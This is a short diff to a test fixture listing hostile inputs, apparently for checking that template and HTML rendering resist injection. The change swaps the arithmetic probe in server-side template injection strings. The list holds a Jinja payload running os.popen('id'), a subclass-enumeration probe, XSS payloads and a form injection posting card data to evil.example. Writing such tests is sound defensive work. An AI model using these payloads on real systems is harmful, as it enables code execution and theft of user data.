@@ -23,9 +23,9 @@ class Hostile:
 
 
 NAMES = (
-    Hostile("templates", "{{ 7 * 191 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}"),
+    Hostile("templates", "{{ 76543 * 98765 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}"),
     Hostile("templates", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
-    Hostile("templates", "${7*191} #{7*191} <%= 7*191 %> %(asked)s {asked}"),
+    Hostile("templates", "${76543*98765} #{76543*98765} <%= 76543*98765 %> %(asked)s {asked}"),
     Hostile("html", '"><script>alert(1)</script>'),
     Hostile("html", "<img src=x onerror=alert(1)>"),
     Hostile("html", "</bdi></p><form action=https://evil.example><input name=card>"),
